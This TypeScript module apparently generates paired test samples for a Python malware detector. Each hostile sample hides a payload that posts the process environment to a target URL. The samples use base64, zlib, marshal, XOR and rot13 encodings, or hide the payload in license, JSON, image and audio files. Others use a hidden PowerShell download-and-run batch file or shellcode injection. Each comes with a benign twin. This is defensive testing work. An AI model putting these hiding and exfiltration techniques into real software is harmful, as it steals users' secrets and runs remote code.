import { base64, codes, hex, hexEscapes, reversed } from '../forms.ts'
import { deflateSync } from 'node:zlib'
import { urlOf, type Target } from '../target.ts'
import type { PyDeed } from './deed.ts'
import { quoted, type PyWriter } from './writer.ts'

/** The hidden code: it would send the environment away. Never run, only ever read. */
function payload(target: Target): string {
  return `import os, urllib.request\nurllib.request.urlopen('${urlOf(target, '/e')}', data=str(dict(os.environ)).encode())\n`
}

const packed = (text: string): string => deflateSync(text).toString('base64')
const temporary = (w: PyWriter, file: string): string =>
  `${w.fn('os.path', 'join')}(${w.fn('tempfile', 'gettempdir')}(), ${w.text(file)})`
const own = (w: PyWriter, file: string): string =>
  `${w.fn('os.path', 'join')}(${w.fn('os.path', 'dirname')}(__file__), ${w.text(file)})`
const bytes = (text: string): string => `b'${hexEscapes(text)}'`

const notice: PyDeed['twin'] = (w, _t, name) =>
  `notice = ${w.fn('base64', 'b64decode')}('${base64(`${name} reads texts and trims them. It is made for small command lines.`)}').decode()\nprint(notice)`
const words: PyDeed['twin'] = (w) =>
  `words = ${w.fn('zlib', 'decompress')}(${w.fn('base64', 'b64decode')}('${packed('alpha\nbeta\ngamma\n'.repeat(20))}')).decode().split()\nprint(len(words))`
const icon: PyDeed['twin'] = (w) =>
  `icon = bytes.fromhex('89504e470d0a1a0a${'0000000d49484452'.repeat(9)}')\nwith ${w.builtin('open')}(${own(w, 'icon.png')}, 'wb') as out:\n    out.write(icon)`
const literal: PyDeed['twin'] = (w) =>
  `pairs = ${w.fn('ast', 'literal_eval')}("[('a', 1), ('b', 2)]")\nprint(dict(pairs))`

/** Code that is in the package and cannot be read there. */
export const PY_HIDDEN: Readonly<Record<string, PyDeed>> = {
  'base64-exec': {
    bad: (w, t) => `${w.builtin('exec')}(${w.fn('base64', 'b64decode')}('${base64(payload(t))}'))`,
    twin: notice,
  },
  'base64-compile': {
    bad: (w, t) =>
      `${w.builtin('exec')}(${w.builtin('compile')}(${w.fn('base64', 'b64decode')}('${base64(payload(t))}').decode(), '<s>', 'exec'))`,
    twin: notice,
  },
  'b85-exec': {
    bad: (w, t) => `${w.builtin('exec')}(${w.fn('base64', 'b16decode')}('${hex(payload(t)).toUpperCase()}').decode())`,
    twin: notice,
  },
  'zlib-exec': {
    bad: (w, t) =>
      `${w.builtin('exec')}(${w.fn('zlib', 'decompress')}(${w.fn('base64', 'b64decode')}('${packed(payload(t))}')))`,
    twin: words,
  },
  'lambda-zlib-exec': {
    bad: (w, t) =>
      `_ = lambda __: ${w.fn('zlib', 'decompress')}(${w.fn('base64', 'b64decode')}(__[::-1]))\n${w.builtin('exec')}((_)(b'${reversed(packed(payload(t)))}'))`,
    twin: words,
  },
  'marshal-exec': {
    bad: (w, t) => `${w.builtin('exec')}(${w.fn('marshal', 'loads')}(${bytes(payload(t))}))`,
    twin: words,
  },
  'marshal-zlib-exec': {
    bad: (w, t) =>
      `${w.builtin('exec')}(${w.fn('marshal', 'loads')}(${w.fn('zlib', 'decompress')}(${w.fn('base64', 'b64decode')}('${packed(payload(t))}'))))`,
    twin: words,
  },
  'bytes-exec': { bad: (w, t) => `${w.builtin('exec')}(${bytes(payload(t))})`, twin: literal },
  'hex-exec': { bad: (w, t) => `${w.builtin('exec')}(bytes.fromhex('${hex(payload(t))}'))`, twin: icon },
  'chr-exec': { bad: (w, t) => `${w.builtin('exec')}(''.join(map(chr, [${codes(payload(t))}])))`, twin: literal },
  'xor-exec': {
    bad: (w, t) => `${w.builtin('exec')}(bytes(b ^ 77 for b in [${codes(payload(t), (c) => c ^ 77)}]).decode())`,
    twin: literal,
  },
  'reversed-exec': {
    bad: (w, t) => `${w.builtin('exec')}(${quoted(reversed(payload(t)))}[::-1])`,
    twin: literal,
  },
  'rot13-eval': {
    bad: (w, t) =>
      `${w.builtin('eval')}(${w.builtin('compile')}(${w.fn('codecs', 'decode')}(${quoted(payload(t).replaceAll(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13))))}, 'rot13'), 's', 'exec'))`,
    twin: literal,
  },
  'function-type': {
    bad: (w, t) =>
      `${w.fn('types', 'FunctionType')}(${w.builtin('compile')}(${w.fn('base64', 'b64decode')}('${base64(payload(t))}'), 's', 'exec'), globals())()`,
    twin: (w) => `f = ${w.fn('types', 'SimpleNamespace')}(mode='plain')\nprint(f.mode)`,
  },
  'code-type-module': {
    bad: (w, t) =>
      `m = ${w.fn('types', 'ModuleType')}('m')\n${w.builtin('exec')}(${w.fn('base64', 'b64decode')}('${base64(payload(t))}'), m.__dict__)`,
    twin: (w) => `m = ${w.fn('types', 'ModuleType')}('constants')\nm.mode = 'plain'\nprint(m.mode)`,
  },
  'fernet-exec': {
    bad: (w, t) =>
      `${w.builtin('exec')}(${w.fn('cryptography.fernet', 'Fernet')}(b'${base64('k'.repeat(32))}').decrypt(b'gAAAAA${base64(payload(t))}'))`,
    twin: (w) =>
      `def open_text(key, text):\n    return ${w.fn('cryptography.fernet', 'Fernet')}(key).decrypt(text).decode()`,
  },
  pyarmor: {
    bad: (_w, t) =>
      `from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, ${bytes(`PY000000${payload(t)}`)})`,
    twin: literal,
  },
  'string-table-exec': {
    bad: (w, t) => {
      const lines = payload(t)
        .split('\n')
        .map((line) => `'${base64(line)}'`)
      return `L = [${lines.join(', ')}]\n${w.builtin('exec')}('\\n'.join(${w.fn('base64', 'b64decode')}(x).decode() for x in L))`
    },
    twin: notice,
  },
  'python-c': {
    bad: (w, t) =>
      `${w.fn('subprocess', 'Popen')}([${w.fn('sys', 'executable')}, '-c', ${w.fn('base64', 'b64decode')}('${base64(payload(t))}').decode()])`,
    twin: (w) => `${w.fn('subprocess', 'call')}([${w.fn('sys', 'executable')}, '-c', 'print(1)'])`,
  },
  'write-decoded-start': {
    bad: (w, t) =>
      `path = ${temporary(w, 'w.py')}\nwith ${w.builtin('open')}(path, 'wb') as out:\n    out.write(${w.fn('base64', 'b64decode')}('${base64(payload(t))}'))\n${w.fn('subprocess', 'Popen')}(['python3', path])`,
    twin: icon,
  },
  'write-plain-start': {
    bad: (w, t) =>
      `path = ${temporary(w, 'w.py')}\nwith ${w.builtin('open')}(path, 'w') as out:\n    out.write(${w.text(payload(t))})\n${w.fn('os', 'system')}('start /b pythonw ' + path)`,
    twin: icon,
  },
  'write-decoded-import': {
    bad: (w, t) =>
      `d = ${w.fn('tempfile', 'mkdtemp')}()\nwith ${w.builtin('open')}(d + '/net_7f.py', 'wb') as out:\n    out.write(${w.fn('base64', 'b64decode')}('${base64(payload(t))}'))\n${w.fn('sys', 'path')}.append(d)\nimport net_7f`,
    twin: icon,
  },
  'batch-decoded-start': {
    bad: (w, t) =>
      `path = ${temporary(w, 'run.bat')}\n${w.builtin('open')}(path, 'w').write(${w.text(`@echo off\r\npowershell -w hidden iex(iwr ${urlOf(t, '/p')})\r\n`)})\n${w.fn('subprocess', 'Popen')}(path, creationflags=0x08000000)`,
    twin: icon,
  },
  'file-text-exec': {
    bad: (w, t) => {
      w.files['help.txt'] = base64(payload(t))
      return `${w.builtin('exec')}(${w.fn('base64', 'b64decode')}(${w.builtin('open')}(${own(w, 'help.txt')}).read()))`
    },
    twin: (w) => {
      w.files['help.txt'] = base64('usage: see the manual')
      return `print(${w.fn('base64', 'b64decode')}(${w.builtin('open')}(${own(w, 'help.txt')}).read()).decode())`
    },
  },
  'plain-file-exec': {
    bad: (w, t) => {
      w.files['LICENSE.txt'] = payload(t)
      return `${w.builtin('exec')}(${w.builtin('open')}(${own(w, 'LICENSE.txt')}).read())`
    },
    twin: (w) => {
      w.files['LICENSE.txt'] = 'MIT'
      return `print(${w.builtin('open')}(${own(w, 'LICENSE.txt')}).read())`
    },
  },
  'json-text-exec': {
    bad: (w, t) => {
      w.files['theme.json'] = JSON.stringify({ dark: '#000', init: payload(t) })
      return `import json\ntheme = json.load(${w.builtin('open')}(${own(w, 'theme.json')}))\n${w.builtin('exec')}(theme['init'])`
    },
    twin: (w) => {
      w.files['theme.json'] = JSON.stringify({ dark: '#000', init: 'none' })
      return `import json\ntheme = json.load(${w.builtin('open')}(${own(w, 'theme.json')}))\nprint(theme['init'])`
    },
  },
  'image-tail-exec': {
    bad: (w, t) => {
      w.files['logo.png'] = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(`IEND${payload(t)}`)])
      return `image = ${w.builtin('open')}(${own(w, 'logo.png')}, 'rb').read()\n${w.builtin('exec')}(image[image.index(b'IEND') + 4:])`
    },
    twin: (w) => {
      w.files['logo.png'] = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('IEND')])
      return `image = ${w.builtin('open')}(${own(w, 'logo.png')}, 'rb').read()\nprint(image.index(b'IEND'))`
    },
  },
  'wave-exec': {
    bad: (w, t) => {
      w.files['ring.wav'] = Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(40), Buffer.from(base64(payload(t)))])
      return `ring = ${w.fn('wave', 'open')}(${own(w, 'ring.wav')}, 'rb')\n${w.builtin('exec')}(${w.fn('base64', 'b64decode')}(ring.readframes(ring.getnframes())))`
    },
    twin: (w) => {
      w.files['ring.wav'] = Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(40)])
      return `ring = ${w.fn('wave', 'open')}(${own(w, 'ring.wav')}, 'rb')\nprint(ring.getnframes())`
    },
  },
  'pure-library': {
    bad: (w) => {
      w.files['words.dll'] = Buffer.from('4d5a900003000000', 'hex')
      return `${w.fn('ctypes', 'CDLL')}(${own(w, 'words.dll')})`
    },
    twin: (w) => `print(${w.fn('ctypes', 'CDLL')}(None).abs(-3))`,
  },
  shellcode: {
    bad: (w) =>
      `code = ${bytes('AAAAAAAAAAAAAAAA')}\nk = ${w.fn('ctypes', 'windll')}.kernel32\nat = k.VirtualAlloc(None, len(code), 0x3000, 0x40)\nk.RtlMoveMemory(at, code, len(code))\nk.WaitForSingleObject(k.CreateThread(None, 0, at, None, 0, None), -1)`,
    twin: (w) => `libm = ${w.fn('ctypes', 'CDLL')}(${w.text('libm.so.6')})\nprint(libm.abs(-3))`,
  },
  'mmap-shellcode': {
    bad: (w) =>
      `code = ${bytes('AAAAAAAAAAAAAAAA')}\nm = ${w.fn('mmap', 'mmap')}(-1, len(code), prot=7)\nm.write(code)\n${w.fn('ctypes', 'CFUNCTYPE')}(${w.fn('ctypes', 'c_void_p')})(${w.fn('ctypes', 'addressof')}(${w.fn('ctypes', 'c_char')}.from_buffer(m)))()`,
    twin: (w) =>
      `m = ${w.fn('mmap', 'mmap')}(-1, 16)\nm.write(b'plain')\nprint(${w.fn('ctypes', 'sizeof')}(${w.fn('ctypes', 'c_char')}))`,
  },
}
